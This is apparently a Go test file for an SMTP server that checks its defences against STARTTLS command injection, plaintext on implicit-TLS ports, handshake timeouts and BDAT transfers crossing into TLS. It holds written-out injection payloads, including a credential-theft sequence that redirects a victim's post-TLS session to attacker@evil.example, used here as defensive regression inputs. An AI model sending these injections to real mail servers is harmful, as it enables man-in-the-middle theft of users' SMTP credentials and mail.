package smtpserver_test

import (
	"bytes"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/petrel-mta/petrel/smtpserver"
)

// atkInjected is the credential-theft payload of requirements §5.1: after
// STARTTLS, a MitM appends a transaction of its own, so that the victim's
// post-TLS EHLO, AUTH and message become the body of a mail to the
// attacker.
const atkInjected = "MAIL FROM:<attacker@evil.example>\r\nRCPT TO:<attacker@evil.example>\r\nDATA\r\n"

// TestAttackSTARTTLSInjection: S-INJ-01..05 (CVE-2011-0411 class). The
// plaintext that follows STARTTLS in the same segment (or in the next one,
// before the ClientHello) must never run as a command. The server's policy
// (starttls.go) is to close the connection; a failed handshake is a pass
// as well. When a TLS session does come up, the server must say nothing
// until the client speaks, its first reply must answer the client's own
// EHLO, and MAIL must get 250 (no transaction opened by the injection).
func TestAttackSTARTTLSInjection(t *testing.T) {
	var many strings.Builder
	for i := range 200 {
		switch i % 4 {
		case 0:
			many.WriteString("RSET\r\n")
		case 1:
			many.WriteString("MAIL FROM:<attacker@evil.example>\r\n")
		case 2:
			many.WriteString("RCPT TO:<attacker@evil.example>\r\n")
		case 3:
			many.WriteString("NOOP\r\n")
		}
	}
	many.WriteString("DATA\r\n")

	tests := []struct {
		name string
		pre  []int // replies expected before the 220 to STARTTLS
		// first is written in one write; second, when set, in a second
		// write: right after the first one, or after the 220 was read
		// (an attacker injecting between the 220 and the ClientHello).
		first, second string
		afterReply    bool
		// control: nothing is injected, so the TLS session must come up.
		control bool
	}{
		{name: "control/no injection", first: "STARTTLS\r\n", control: true},
		{name: "S-INJ-01/RSET in the same write", first: "STARTTLS\r\nRSET\r\n"},
		{name: "S-INJ-02/pipelined EHLO STARTTLS NOOP", first: "EHLO x\r\nSTARTTLS\r\nNOOP\r\n", pre: []int{250}},
		{name: "S-INJ-03/credential theft MAIL RCPT DATA", first: "STARTTLS\r\n" + atkInjected},
		{name: "S-INJ-03/credential theft after EHLO", first: "EHLO x\r\nSTARTTLS\r\n" + atkInjected, pre: []int{250}},
		{name: "S-INJ-03/credential theft with injected EHLO", first: "STARTTLS\r\nEHLO evil.example\r\n" + atkInjected},
		{name: "S-INJ-04/second write before ClientHello", first: "STARTTLS\r\n", second: atkInjected},
		{name: "S-INJ-04/second write after the 220", first: "STARTTLS\r\n", second: atkInjected, afterReply: true},
		{name: "S-INJ-05/200 injected commands", first: "STARTTLS\r\n" + many.String()},
		{name: "S-INJ-05/200 injected commands, second write", first: "STARTTLS\r\n", second: many.String()},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			env := atkStart(t, smtpserver.Options{})
			c := atkGreeted(t, env.addr)
			if tt.pre == nil {
				c.ehlo()
			}
			c.send(tt.first)
			if tt.second != "" && !tt.afterReply {
				_ = c.write(tt.second) // the server may already have closed
			}
			tlsUp := atkInjectionTLS(t, c, env, tt.pre, tt.second, tt.afterReply)
			if tt.control && !tlsUp {
				t.Fatal("control: STARTTLS without injection must succeed")
			}
			// The server ends every session it closes; let it finish.
			_ = c.raw.Close()
			env.stop()
			env.checkNoSpoof(t, 0)
			if n := len(env.be.Messages()); n != 0 {
				t.Errorf("backend stored %d messages", n)
			}
		})
	}
}

// atkInjectionTLS reads the replies up to the 220 to STARTTLS, tries the
// handshake, and when it succeeds checks the TLS session is clean. It
// reports whether TLS came up.
func atkInjectionTLS(t *testing.T, c *atkConn, env *atkEnv, pre []int, second string, afterReply bool) bool {
	t.Helper()
	for _, code := range pre {
		c.expect(code, "")
	}
	r, err := c.readReply()
	if err != nil {
		// With much pipelined plaintext the server's close can reset the
		// connection before the 220 is read: the attack failed as well.
		if !atkClosed(err) {
			t.Fatalf("reading the 220 to STARTTLS: %v", err)
		}
		t.Logf("connection closed before the 220 was read: %v", err)
		return false
	}
	if r.code != 220 {
		t.Fatalf("STARTTLS: got %v, want 220", r)
	}
	if afterReply {
		_ = c.write(second)
	}
	if err := c.startTLS(env.clientTLS); err != nil {
		t.Logf("handshake failed (attack refused): %v", err)
		return false
	}
	// Inside TLS: no reply before the client's first command (an injected
	// command's reply would show up here).
	c.silent(time.Second)
	ehlo := c.ehlo()
	if len(ehlo.lines) < 2 || !strings.Contains(ehlo.lines[0], "greets client.test.example") {
		t.Fatalf("first reply inside TLS is not the answer to our EHLO: %v", ehlo)
	}
	for _, l := range ehlo.lines {
		if l == "STARTTLS" {
			t.Errorf("STARTTLS advertised inside TLS")
		}
	}
	c.cmd("MAIL FROM:<a@example.org>", 250, "2.1.0") // no open transaction
	c.cmd("RSET", 250, "")
	c.cmd("NOOP", 250, "")
	c.cmd("QUIT", 221, "")
	return true
}

// atkSMTPReply matches anything that looks like an SMTP reply line.
var atkSMTPReply = regexp.MustCompile(`(^|\n)[2-5][0-9][0-9][ -]`)

// TestAttackImplicitTLSPlaintext: S-INJ-07. On an implicit-TLS listener
// (RFC 8314, port 465) plaintext sent before the ClientHello is never read
// as SMTP and never answered in plaintext; the connection is closed. A
// client that says nothing is dropped after HandshakeTimeout, also without
// a plaintext word.
func TestAttackImplicitTLSPlaintext(t *testing.T) {
	env := atkStart(t, smtpserver.Options{ImplicitTLS: true, HandshakeTimeout: 500 * time.Millisecond})

	t.Run("control/TLS client", func(t *testing.T) {
		c := atkDial(t, env.addr)
		if err := c.startTLS(env.clientTLS); err != nil {
			t.Fatal(err)
		}
		c.expect(220, "")
		c.ehlo()
		c.cmd("QUIT", 221, "")
	})

	for _, payload := range []string{
		"EHLO x\r\n",
		"QUIT\r\n",
		"EHLO x\r\nMAIL FROM:<attacker@evil.example>\r\nRCPT TO:<attacker@evil.example>\r\nDATA\r\nx\r\n.\r\nQUIT\r\n",
		"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
		"\x16\x03\x01\x00\x05EHLO x\r\n", // a TLS record header around SMTP
		"",                               // silence
	} {
		t.Run(fmt.Sprintf("%.24q", payload), func(t *testing.T) {
			c := atkDial(t, env.addr)
			if payload != "" {
				c.send(payload)
			}
			got, closed := c.readAllRaw(atkIO)
			if !closed {
				t.Fatalf("server kept the connection open past %v", atkIO)
			}
			if atkSMTPReply.Match(got) || bytes.Contains(got, []byte("ESMTP")) {
				t.Fatalf("server answered plaintext on an implicit-TLS listener: %q", got)
			}
		})
	}

	t.Run("plaintext then a real ClientHello", func(t *testing.T) {
		c := atkDial(t, env.addr)
		c.send("EHLO x\r\n")
		err := c.startTLS(env.clientTLS)
		if err == nil {
			t.Fatal("handshake succeeded after plaintext garbage: the plaintext was skipped, not refused")
		}
	})

	env.stop()
	env.checkNoSpoof(t, 0)
	if n := len(env.be.Messages()); n != 0 {
		t.Errorf("backend stored %d messages", n)
	}
}

// TestAttackSTARTTLSHandshakeTimeout: S-DOS-03 (shorter pre-handshake
// timeout). A client that sends STARTTLS and then nothing is dropped after
// HandshakeTimeout, with nothing sent in plaintext after the 220.
func TestAttackSTARTTLSHandshakeTimeout(t *testing.T) {
	env := atkStart(t, smtpserver.Options{HandshakeTimeout: 300 * time.Millisecond})
	c := atkGreeted(t, env.addr)
	c.ehlo()
	c.cmd("STARTTLS", 220, "")
	start := time.Now()
	got, closed := c.readAllRaw(atkIO)
	if !closed {
		t.Fatalf("connection still open %v after STARTTLS", atkIO)
	}
	if len(got) != 0 {
		t.Errorf("server sent %q after the 220 to STARTTLS", got)
	}
	t.Logf("closed after %v", time.Since(start).Round(time.Millisecond))

	// The handshake slot was given back: a real client still gets TLS.
	c2 := atkGreeted(t, env.addr)
	c2.ehlo()
	c2.cmd("STARTTLS", 220, "")
	if err := c2.startTLS(env.clientTLS); err != nil {
		t.Fatal(err)
	}
	c2.ehlo()
}

// TestAttackSTARTTLSDuringBDAT: RFC 3207 §4.2 / S-TLS-06 with CHUNKING. A
// BDAT transfer begun in plaintext (its first chunk perhaps written by a
// MitM) must not survive into TLS: STARTTLS during the transfer is refused
// (503, so no handshake runs beside the transfer), and after RSET and
// STARTTLS the transaction is gone, a BDAT LAST gets 503, and nothing from
// before TLS is stored.
func TestAttackSTARTTLSDuringBDAT(t *testing.T) {
	env := atkStart(t, smtpserver.Options{})
	c := atkGreeted(t, env.addr)
	c.send("EHLO client.test.example\r\nMAIL FROM:<attacker@evil.example>\r\nRCPT TO:<b@example.org>\r\n")
	c.expect(250, "")
	c.expect(250, "")
	c.expect(250, "")
	first := "From: ceo@victim.example\r\n\r\nplaintext part\r\n"
	c.send(fmt.Sprintf("BDAT %d\r\n%s", len(first), first))
	c.expect(250, "")
	c.cmd("STARTTLS", 503, "5.5.1")
	c.cmd("RSET", 250, "")
	c.cmd("STARTTLS", 220, "")
	if err := c.startTLS(env.clientTLS); err != nil {
		t.Fatal(err)
	}
	c.silent(200 * time.Millisecond)
	c.ehlo()
	c.send("BDAT 5 LAST\r\nhello") // the chunk is read and dropped
	c.expect(503, "5.5.1")
	c.cmd("RCPT TO:<b@example.org>", 503, "5.5.1")
	c.cmd("MAIL FROM:<a@example.org>", 250, "")
	c.cmd("QUIT", 221, "")
	env.stop()
	if n := len(env.be.Messages()); n != 0 {
		t.Errorf("stored %d messages", n)
	}
}
